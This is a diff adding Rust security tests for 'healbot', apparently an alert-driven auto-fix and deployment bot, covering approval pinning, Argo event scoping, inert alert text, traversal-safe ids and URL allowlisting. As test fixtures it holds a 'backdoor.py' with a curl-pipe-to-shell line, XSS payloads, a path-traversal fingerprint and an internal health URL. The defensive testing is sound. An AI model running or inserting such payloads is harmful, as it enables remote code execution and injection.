@@ -714,3 +714,488 @@ mod through_the_app {
         t.fake.assert_clean();
     }
 }
+
+// ---- §3: an approval merges only the commit healbot validated ----
+
+mod approvals {
+    use crate::support::app::{
+        comment, pull_request, review, App, AppOptions, FULL_ROLLOUT, REPO, SERVICE_DIR,
+    };
+    use healbot::operation::OpState;
+
+    /// Pushes `backdoor.py` to the operation's fix branch as a person with write access would.
+    async fn push_backdoor(t: &App) -> String {
+        let branch = "healbot/".to_string()
+            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
+        t.fake.push(
+            REPO,
+            &branch,
+            &[("backdoor.py", "import os\nos.system('curl evil | sh')\n")],
+            "tidy up\n",
+        )
+    }
+
+    fn backdoor_on_main(t: &App) -> bool {
+        let main = t.fake.branch(REPO, "main").unwrap();
+        t.fake.file(REPO, &main, "backdoor.py").is_some()
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_push_then_an_approval_of_it_merges_nothing() {
+        let mut t = App::start().await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let validated = t.head(1).await;
+        let pushed = push_backdoor(&t).await;
+        // The approval arrives before GitHub's `synchronize`: the head is checked live.
+        t.deliver(
+            "pull_request_review",
+            "r-pushed",
+            &review(1, "alice", "approved", &pushed, 9001),
+        )
+        .await;
+        t.fake
+            .expect_comments(&["is not the commit healbot validated"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
+        // Then the push is reported: the operation is cancelled, the lock freed.
+        t.deliver(
+            "pull_request",
+            "sync-1",
+            &pull_request("synchronize", 1, "alice", &pushed, None),
+        )
+        .await;
+        t.fake.expect_comments(&["no longer acts on this PR"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
+        // An approval of the validated commit, given before, does not count now either.
+        t.deliver(
+            "pull_request_review",
+            "r-old",
+            &review(1, "alice", "approved", &validated, 9002),
+        )
+        .await;
+        t.fake.expect_comments(&["nothing to approve"]);
+        let body = comment(&t.fake, 1, "alice", "/heal approve");
+        t.deliver("issue_comment", "c-approve", &body).await;
+        t.fake.expect_comments(&["nothing to approve"]);
+        assert!(!backdoor_on_main(&t));
+        assert!(
+            t.fake.merge_calls().is_empty(),
+            "{:?}",
+            t.fake.merge_calls()
+        );
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn the_merge_call_names_the_validated_sha() {
+        let mut t = App::start().await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let validated = t.head(1).await;
+        t.production.heal();
+        t.approve(1, 9101).await;
+        t.expect_full_rollout();
+        let calls = t.fake.merge_calls();
+        assert_eq!(calls.len(), 1, "{calls:?}");
+        assert_eq!(calls[0]["sha"], serde_json::json!(validated));
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_person_merging_an_unvalidated_head_is_not_deployed() {
+        let mut t = App::start().await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let pushed = push_backdoor(&t).await;
+        // Merged on GitHub by hand, with the push in it: healbot takes none of it further.
+        let merge = t.fake.push(REPO, "main", &[("merged.txt", "x")], "merge\n");
+        t.deliver(
+            "pull_request",
+            "closed-unvalidated",
+            &pull_request("closed", 1, "alice", &pushed, Some(&merge)),
+        )
+        .await;
+        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
+        let actions = t.audit_actions().await;
+        assert!(actions.contains(&("alice".into(), "pr.merged_unvalidated".into())));
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn with_revalidation_the_pusher_cannot_approve_and_someone_else_can() {
+        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
+            .unwrap()
+            .replace("allow: []", "allow: []\n  on_push: revalidate");
+        let mut t = App::start_with(AppOptions {
+            repo_config: Some(config),
+            ..AppOptions::default()
+        })
+        .await;
+        t.fake.set_permission(REPO, "bob", "write");
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let validated = t.head(1).await;
+        // A harmless push that keeps the check green.
+        let branch = "healbot/".to_string()
+            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
+        let pushed = t
+            .fake
+            .push(REPO, &branch, &[("NOTES.md", "reviewed\n")], "notes\n");
+        t.deliver(
+            "pull_request",
+            "sync-ok",
+            &pull_request("synchronize", 1, "alice", &pushed, None),
+        )
+        .await;
+        t.fake
+            .expect_comments(&["ran the check on it again and it passed"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
+        // The pusher's own approval does not count.
+        t.deliver(
+            "pull_request_review",
+            "r-alice",
+            &review(1, "alice", "approved", &pushed, 9201),
+        )
+        .await;
+        t.fake.expect_comments(&["you pushed to this PR's branch"]);
+        // An approval of the commit before the push does not count.
+        t.deliver(
+            "pull_request_review",
+            "r-bob-old",
+            &review(1, "bob", "approved", &validated, 9202),
+        )
+        .await;
+        t.fake.expect_comments(&["approve again"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
+        // Someone else approving the re-validated head merges exactly that commit.
+        t.production.heal();
+        t.deliver(
+            "pull_request_review",
+            "r-bob",
+            &review(1, "bob", "approved", &pushed, 9203),
+        )
+        .await;
+        t.fake.expect_comments(&FULL_ROLLOUT);
+        assert_eq!(t.fake.merge_calls()[0]["sha"], serde_json::json!(pushed));
+        assert_eq!(t.state_of_only_operation().await, OpState::Completed);
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn with_revalidation_a_push_that_fails_the_check_cancels() {
+        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
+            .unwrap()
+            .replace("allow: []", "allow: []\n  on_push: revalidate");
+        let mut t = App::start_with(AppOptions {
+            repo_config: Some(config),
+            ..AppOptions::default()
+        })
+        .await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let branch = "healbot/".to_string()
+            + &t.app.orchestrator().journal.operations().await[0].correlation_id;
+        let pushed = t.fake.push(
+            REPO,
+            &branch,
+            &[(
+                "tests/test_zz_broken.py",
+                "import unittest\n\nclass Broken(unittest.TestCase):\n    def test_x(self):\n        self.fail('broken')\n",
+            )],
+            "break\n",
+        );
+        t.deliver(
+            "pull_request",
+            "sync-bad",
+            &pull_request("synchronize", 1, "mallory", &pushed, None),
+        )
+        .await;
+        t.fake
+            .expect_comments(&["ran the check on it again and it failed"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::Cancelled);
+        t.fake.assert_clean();
+    }
+}
+
+// ---- §2: Argo notifications move only Argo-managed operations of their namespace and
+// revision; alert text is inert in PRs ----
+
+mod argo_and_alert_text {
+    use crate::argo_app::ARGO_CONFIG;
+    use crate::support::app::{policies_with, post_json, App, AppOptions, REPO};
+    use healbot::forge::{PrNumber, RepoRef};
+    use healbot::operation::OpState;
+    use serde_json::{json, Value};
+
+    fn argo(trigger: &str, namespace: &str, revision: u64) -> Value {
+        json!({"trigger": trigger, "rollout": "payment-service", "namespace": namespace,
+               "revision": revision, "phase": "Degraded",
+               "message": "RolloutAborted <img src=x> @alice"})
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn argo_cannot_move_a_healbot_managed_rollout() {
+        let state = tempfile::tempdir().unwrap();
+        // A judge that wants more samples than the harness gives: the canary waits at 10%.
+        let policies = policies_with(
+            state.path(),
+            &[("canary.yaml", "min_samples: 10\n", "min_samples: 100\n")],
+        );
+        let mut t = App::start_in(
+            state,
+            AppOptions {
+                policies_dir: Some(policies),
+                ..AppOptions::default()
+            },
+        )
+        .await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        t.production.heal();
+        t.approve(1, 1).await;
+        t.fake.expect_comments(&[
+            "approved",
+            "10% of traffic",
+            "Canary at 10%: **Inconclusive**",
+        ]);
+        let main = t.fake.branch(REPO, "main");
+        for trigger in ["on-rollout-aborted", "on-rollout-completed"] {
+            post_json(&mut t, "/webhooks/argo", &argo(trigger, "default", 7)).await;
+        }
+        assert_eq!(t.states().await, [OpState::PausedForHumanReview]);
+        assert_eq!(t.fake.branch(REPO, "main"), main, "nothing written to Git");
+        t.fake.expect_comments(&[]);
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn argo_events_must_name_the_plans_namespace_and_revision() {
+        let mut t = App::start_with(AppOptions {
+            repo_config: Some(ARGO_CONFIG.into()),
+            ..AppOptions::default()
+        })
+        .await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        t.production.heal();
+        t.approve(1, 1).await;
+        t.fake
+            .expect_comments(&["approved", "Argo Rollouts runs the canary steps"]);
+        // Another namespace's Rollout of the same name.
+        post_json(
+            &mut t,
+            "/webhooks/argo",
+            &argo("on-rollout-aborted", "shop", 7),
+        )
+        .await;
+        post_json(
+            &mut t,
+            "/webhooks/argo",
+            &argo("on-rollout-completed", "shop", 7),
+        )
+        .await;
+        t.fake.expect_comments(&[]);
+        assert_eq!(t.states().await, [OpState::Deploying(0)]);
+        // The first revision reported is the operation's …
+        let mut step = argo("on-rollout-step-completed", "payments", 7);
+        step["step"] = json!(1);
+        step["phase"] = json!("Progressing");
+        post_json(&mut t, "/webhooks/argo", &step).await;
+        t.fake
+            .expect_comments(&["revision 7 finished canary step 1"]);
+        // … so an abort or completion of another revision changes nothing,
+        post_json(
+            &mut t,
+            "/webhooks/argo",
+            &argo("on-rollout-aborted", "payments", 6),
+        )
+        .await;
+        let mut done = argo("on-rollout-completed", "payments", 8);
+        done["phase"] = json!("Healthy");
+        post_json(&mut t, "/webhooks/argo", &done).await;
+        // and one without a revision cannot move it either.
+        let mut bare = done.clone();
+        bare.as_object_mut().unwrap().remove("revision");
+        post_json(&mut t, "/webhooks/argo", &bare).await;
+        t.fake.expect_comments(&[]);
+        assert_eq!(t.states().await, [OpState::Deploying(0)]);
+        // The abort of its own revision rolls back, Argo's message quoted inert.
+        post_json(
+            &mut t,
+            "/webhooks/argo",
+            &argo("on-rollout-aborted", "payments", 7),
+        )
+        .await;
+        t.fake.expect_comments(&[
+            "Argo Rollouts aborted `payments/payment-service` revision 7",
+            "Rolled back",
+        ]);
+        let comments = t.fake.bot_comments();
+        let abort = &comments[comments.len() - 2];
+        assert!(
+            !abort.contains("<img") && !abort.contains("@alice"),
+            "{abort}"
+        );
+        assert_eq!(t.states().await, [OpState::RolledBack]);
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn alert_text_reaches_the_pr_body_inert() {
+        let mut t = App::start().await;
+        let summary = "<img src=x onerror=alert(1)> **5xx** [login](http://evil.example) \
+                       @alice #1 <!-- healbot:op-x/comment/review-requested --> | x";
+        let body = json!({
+            "version": "4", "groupKey": "{}:{service=\"payment-service\"}", "truncatedAlerts": 0,
+            "status": "firing", "receiver": "healbot",
+            "groupLabels": {"service": "payment-service"},
+            "commonLabels": {"service": "payment-service", "severity": "critical"},
+            "commonAnnotations": {}, "externalURL": "http://alertmanager:9093",
+            "alerts": [{
+                "status": "firing",
+                "labels": {"alertname": "HighErrorRate", "service": "payment-service",
+                           "severity": "critical", "team": "<b>@payments</b>"},
+                "annotations": {"summary": summary, "description": "@everyone <script>"},
+                "startsAt": "2026-11-28T02:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
+                "generatorURL": "http://prometheus:9090/graph", "fingerprint": "5f1e2d3c4b5a6978"
+            }]
+        });
+        post_json(&mut t, "/webhooks/alertmanager", &body).await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let pr = t
+            .app
+            .orchestrator()
+            .forge
+            .pull_request(&RepoRef(REPO.into()), PrNumber(1))
+            .await
+            .unwrap();
+        for raw in [
+            "<img", "<!--", "@alice", "[login](", "**5xx**", "<b>", "<script", "@every",
+        ] {
+            assert!(!pr.body.contains(raw), "{raw} in the PR body:\n{}", pr.body);
+        }
+        assert!(pr.body.contains("&lt;img src=x"), "{}", pr.body);
+        t.fake.assert_clean();
+    }
+}
+
+// ---- §5: ids from alerts cannot leave their folder or spell another branch or key ----
+
+mod hostile_ids {
+    use crate::support::app::{post_json, App};
+    use serde_json::json;
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_fingerprint_with_dot_dot_stays_inside_the_scratch_folder() {
+        let mut t = App::start().await;
+        let fingerprint = "/../../../x/";
+        let body = json!({
+            "version": "4", "groupKey": "{}:{service=\"payment-service\"}", "truncatedAlerts": 0,
+            "status": "firing", "receiver": "healbot",
+            "groupLabels": {"service": "payment-service"},
+            "commonLabels": {"service": "payment-service", "severity": "critical"},
+            "commonAnnotations": {}, "externalURL": "http://alertmanager:9093",
+            "alerts": [{
+                "status": "firing",
+                "labels": {"alertname": "HighErrorRate", "service": "payment-service"},
+                "annotations": {"summary": "5xx ratio 16% for 2 minutes"},
+                "startsAt": "2026-11-28T02:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
+                "generatorURL": "http://prometheus:9090/graph", "fingerprint": fingerprint
+            }]
+        });
+        post_json(&mut t, "/webhooks/alertmanager", &body).await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let op = t.operations().await.remove(0);
+        let safe = |s: &str| {
+            s.chars()
+                .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
+                && !s.contains("..")
+        };
+        assert!(safe(&op.id.0), "{}", op.id);
+        assert!(safe(&op.correlation_id), "{}", op.correlation_id);
+        // The branch exists under its safe name.
+        let branch = format!("healbot/{}", op.correlation_id);
+        assert!(t.fake.branch(crate::support::app::REPO, &branch).is_some());
+        // The export and the check ran in the scratch folder, not two levels above it.
+        let escaped = t.state.path().join("x");
+        assert!(!escaped.exists(), "{} was written", escaped.display());
+        let scratch = App::state_dir(t.state.path()).join("scratch");
+        assert!(scratch.join(&op.id.0).join("patched").is_dir());
+        t.fake.assert_clean();
+    }
+}
+
+// ---- §9: approvers by user id; health_url only to allowed hosts, generic on the PR ----
+
+mod smaller_ones {
+    use crate::delivery::{approve, assert_rolled_back};
+    use crate::support::app::{review, App, AppOptions, FULL_ROLLOUT, SERVICE_DIR};
+    use crate::support::prometheus::serve_http;
+    use healbot::operation::OpState;
+    use serde_json::json;
+    use std::sync::Arc;
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn an_allowed_user_id_is_not_whoever_holds_the_login_now() {
+        // alice is user 1005 in the harness (`person`).
+        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
+            .unwrap()
+            .replace("allow: []", "allow: [1005]");
+        let mut t = App::start_with(AppOptions {
+            repo_config: Some(config),
+            ..AppOptions::default()
+        })
+        .await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let head = t.head(1).await;
+        // Someone who took over the login `alice` after a rename: another id.
+        let mut impostor = review(1, "alice", "approved", &head, 9301);
+        impostor["sender"]["id"] = json!(424242);
+        impostor["review"]["user"]["id"] = json!(424242);
+        t.deliver("pull_request_review", "r-impostor", &impostor)
+            .await;
+        t.fake.expect_comments(&["only `user id 1005` may"]);
+        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
+        t.production.heal();
+        t.approve(1, 9302).await;
+        t.fake.expect_comments(&FULL_ROLLOUT);
+        t.fake.assert_clean();
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn a_health_url_outside_the_allowlist_is_not_fetched_or_shown() {
+        let (addr, seen) = serve_http(Arc::new(|_| {
+            (200, "text/plain".into(), "internal admin".into())
+        }))
+        .await;
+        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
+            .unwrap()
+            .replace(
+                "manifests: [\"deploy/rollout.yaml\"]",
+                &format!(
+                    "manifests: [\"deploy/rollout.yaml\"]\n    health_url: http://{addr}/admin"
+                ),
+            );
+        let mut t = App::start_with(AppOptions {
+            repo_config: Some(config),
+            ..AppOptions::default()
+        })
+        .await;
+        t.alert().await;
+        t.fake.expect_comments(&["The fix is ready for review"]);
+        let comments = approve(&mut t).await;
+        assert!(seen.lock().unwrap().is_empty(), "healbot asked {addr}");
+        let verification = comments
+            .iter()
+            .find(|c| c.starts_with("Verification at 100%"))
+            .unwrap();
+        assert!(verification.contains("not allowed"), "{verification}");
+        assert!(!verification.contains(&addr.to_string()), "{verification}");
+        assert_rolled_back(&t, &comments, "verification at 100% failed").await;
+        let mut expected = FULL_ROLLOUT.to_vec();
+        expected.push("Rolled back");
+        t.fake.expect_comments(&expected);
+        t.fake.assert_clean();
+    }
+}
